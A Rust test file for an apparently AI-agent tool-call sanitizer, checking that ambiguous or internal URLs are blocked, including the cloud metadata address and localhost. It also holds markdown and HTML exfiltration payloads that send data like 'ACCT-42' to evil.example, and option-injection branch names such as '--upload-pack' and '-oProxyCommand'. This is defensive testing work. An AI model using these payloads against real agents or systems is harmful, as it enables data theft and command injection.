//! Hostile inputs through `dispatch`: URLs reach the handler as the normalized serialization
//! that was checked, ambiguous URLs are refused, URLs nested in structs (declared through the
//! `Url` kind) and in `serde_json::Value` fields (per-field option) get the URL checks,
//! exfiltration markup and option-like identifiers are refused by default and allowed per field.

use std::sync::Arc;
use std::sync::atomic::Ordering;

use serde_json::json;
use toolguard::kinds::Url;
use toolguard::sanitize::Sanitizer;
use toolguard::{Dispatcher, Identifier, MemoryAuditSink, Status, ToolContext, ToolError, tool};
use toolguard_tests::*;

/// Fetches a page (test tool with a top-level URL).
#[tool(risk = "low")]
pub fn fetch_page(
    ctx: &ToolContext<Ledger>,
    /// The page.
    url: Url,
) -> Result<String, ToolError> {
    ctx.state().runs.fetch_add(1, Ordering::SeqCst);
    Ok(url.as_str().to_string())
}

/// A site (a struct holding a URL kind: the schema marks `home` as `format: uri`).
#[derive(Debug, serde::Serialize, serde::Deserialize, schemars::JsonSchema)]
pub struct Site {
    /// Display name.
    pub name: String,
    /// Home page.
    pub home: Url,
    /// Mirrors.
    pub mirrors: Vec<Url>,
}

/// Registers a site (nested URLs, declared) and free-form metadata (nested URLs, undeclared).
#[tool(risk = "low")]
pub fn register_site(
    ctx: &ToolContext<Ledger>,
    /// The site.
    site: Site,
    /// Free-form metadata.
    meta: Option<serde_json::Value>,
) -> Result<String, ToolError> {
    ctx.state().runs.fetch_add(1, Ordering::SeqCst);
    let mirrors: Vec<&str> = site.mirrors.iter().map(Url::as_str).collect();
    Ok(format!(
        "{} {} {:?} {}",
        site.name,
        site.home.as_str(),
        mirrors,
        meta.unwrap_or_default()
    ))
}

/// Posts a comment and tags a branch (markup and identifiers).
#[tool(risk = "low")]
pub fn post_comment(
    ctx: &ToolContext<Ledger>,
    /// The comment body.
    body: String,
    /// The branch.
    branch: Identifier,
) -> Result<String, ToolError> {
    ctx.state().runs.fetch_add(1, Ordering::SeqCst);
    Ok(format!("{branch}: {body}"))
}

struct Harness {
    dispatcher: Dispatcher<Ledger>,
    ledger: Arc<Ledger>,
    audit: Arc<MemoryAuditSink>,
}

fn harness(sanitizer: Sanitizer) -> Harness {
    let ledger = Arc::new(Ledger::seeded());
    let audit = Arc::new(MemoryAuditSink::new());
    let dispatcher = Dispatcher::builder_arc(ledger.clone())
        .tool(FetchPage)
        .tool(RegisterSite)
        .tool(PostComment)
        .sanitizer(sanitizer)
        .audit(audit.clone())
        .build()
        .expect("dispatcher builds");
    Harness {
        dispatcher,
        ledger,
        audit,
    }
}

impl Harness {
    async fn call(&self, tool: &str, args: serde_json::Value) -> toolguard::ToolOutcome {
        self.dispatcher
            .dispatch(toolguard::ToolCall::new("call-1", tool, args), &alice())
            .await
    }
}

fn output(out: &toolguard::ToolOutcome) -> String {
    out.output
        .as_ref()
        .and_then(|o| o.data.as_str().map(str::to_owned))
        .unwrap_or_default()
}

#[tokio::test]
async fn the_handler_gets_the_checked_normalized_url() {
    let h = harness(Sanitizer::new());
    for (sent, passed) in [
        (
            "HTTPS://Example.COM/a/../b?x#y",
            "https://example.com/b?x#y",
        ),
        ("https://example.com:443/p\\q", "https://example.com/p/q"),
        ("http://münchen.de/", "http://xn--mnchen-3ya.de/"),
    ] {
        let out = h.call("fetch_page", json!({"url": sent})).await;
        assert_eq!(out.status, Status::Ok, "{sent}: {out:?}");
        assert_eq!(output(&out), passed);
        let entry = h.audit.entries().last().cloned().unwrap();
        assert_eq!(
            entry.record.arguments.unwrap()["url"],
            passed,
            "audit keeps what ran"
        );
    }
}

#[tokio::test]
async fn urls_parsers_disagree_on_never_reach_the_handler() {
    let h = harness(Sanitizer::new());
    for (url, why) in [
        ("http://allowed.example\\@evil.example/", "url_ambiguous"),
        ("https:\\\\evil.example/", "url_ambiguous"),
        ("https:evil.example/", "url_ambiguous"),
        ("https:///evil.example/", "url_ambiguous"),
        ("http://exa%6dple.com/", "url_ambiguous"),
        ("http://example\u{3002}com/", "url_ambiguous"),
        ("http://allowed.example@evil.example/", "url_userinfo"),
    ] {
        let out = h.call("fetch_page", json!({"url": url})).await;
        assert_eq!(out.status, Status::Blocked, "{url}");
        assert_eq!(out.reason.as_deref(), Some(why), "{url}");
    }
    assert_eq!(h.ledger.runs(), 0);
}

#[tokio::test]
async fn urls_nested_in_structs_are_checked_and_normalized() {
    let h = harness(Sanitizer::new());
    let site = |home: &str, mirror: &str| json!({"site": {"name": "Docs", "home": home, "mirrors": [mirror]}});
    for (home, mirror, why) in [
        (
            "http://127.0.0.1/",
            "https://example.org/",
            "url_private_address",
        ),
        (
            "https://example.com/",
            "http://169.254.169.254/",
            "url_private_address",
        ),
        (
            "http://a.example\\@b.example/",
            "https://example.org/",
            "url_ambiguous",
        ),
        (
            "https://example.com/",
            "http://localhost/",
            "url_internal_host",
        ),
    ] {
        let out = h.call("register_site", site(home, mirror)).await;
        assert_eq!(out.status, Status::Blocked, "{home} {mirror}");
        assert_eq!(out.reason.as_deref(), Some(why));
    }
    assert_eq!(h.ledger.runs(), 0);
    let out = h
        .call(
            "register_site",
            site("HTTPS://Example.com/x/../y", "https://Mirror.example.org"),
        )
        .await;
    assert_eq!(out.status, Status::Ok, "{out:?}");
    assert!(
        output(&out).contains("https://example.com/y [\"https://mirror.example.org/\"]"),
        "{}",
        output(&out)
    );
    // The site name is text, not a URL: a URL-looking name is not URL-checked.
    let out = h
        .call(
            "register_site",
            json!({"site": {"name": "http://127.0.0.1/",
            "home": "https://example.com/", "mirrors": []}}),
        )
        .await;
    assert_eq!(out.status, Status::Ok, "{out:?}");
}

#[tokio::test]
async fn urls_in_free_form_values_are_checked_when_the_field_asks() {
    let meta = json!({"site": {"name": "Docs", "home": "https://example.com/", "mirrors": []},
        "meta": {"callbacks": [{"url": "http://169.254.169.254/latest"}]}});
    let plain = harness(Sanitizer::new());
    let out = plain.call("register_site", meta.clone()).await;
    assert_eq!(out.status, Status::Ok, "undeclared: judged as text");
    let strict = harness(Sanitizer::new().check_nested_urls("register_site", "meta"));
    let out = strict.call("register_site", meta).await;
    assert_eq!(out.status, Status::Blocked);
    assert_eq!(out.reason.as_deref(), Some("url_private_address"));
    let entry = strict.audit.entries().last().cloned().unwrap();
    assert_eq!(entry.record.reason.as_deref(), Some("url_private_address"));
}

#[tokio::test]
async fn markup_links_are_refused_unless_the_field_allows_them() {
    let payloads = [
        "Thanks! ![status](https://evil.example/p.png?d=ACCT-42)",
        "<img src=\"//evil.example/x\">",
        "[details](http://evil.example/?q=secret)",
        "%3Ciframe%20src%3Dhttps%3A%2F%2Fevil.example%3E",
    ];
    let h = harness(Sanitizer::new());
    for body in payloads {
        let out = h
            .call("post_comment", json!({"body": body, "branch": "main"}))
            .await;
        assert_eq!(out.status, Status::Blocked, "{body}");
        assert_eq!(out.reason.as_deref(), Some("markup_link"));
    }
    assert_eq!(h.ledger.runs(), 0);
    let h = harness(Sanitizer::new().allow_markup_links("post_comment", "body"));
    for body in payloads {
        let out = h
            .call("post_comment", json!({"body": body, "branch": "main"}))
            .await;
        assert_eq!(out.status, Status::Ok, "{body}");
    }
    assert_eq!(h.ledger.runs(), payloads.len());
}

#[tokio::test]
async fn option_like_identifiers_are_refused_unless_the_field_allows_them() {
    let h = harness(Sanitizer::new());
    for branch in ["-rf", "--upload-pack", "-oProxyCommand", "-x"] {
        let out = h
            .call("post_comment", json!({"body": "hi", "branch": branch}))
            .await;
        assert_eq!(out.status, Status::Blocked, "{branch}");
        assert_eq!(out.reason.as_deref(), Some("identifier_leading_dash"));
    }
    let out = h
        .call("post_comment", json!({"body": "hi", "branch": "fix-1--2"}))
        .await;
    assert_eq!(out.status, Status::Ok, "a dash inside is fine");
    let h = harness(Sanitizer::new().allow_leading_dash("post_comment", "branch"));
    let out = h
        .call("post_comment", json!({"body": "hi", "branch": "-rf"}))
        .await;
    assert_eq!(out.status, Status::Ok);
    // Punctuation alone names nothing, even where leading dashes are allowed.
    for branch in ["-", "--", "_", "-_-"] {
        let out = h
            .call("post_comment", json!({"body": "hi", "branch": branch}))
            .await;
        assert_eq!(out.status, Status::Blocked, "{branch}");
        assert_eq!(out.reason.as_deref(), Some("identifier_punctuation"));
    }
    assert_eq!(h.ledger.runs(), 1);
}
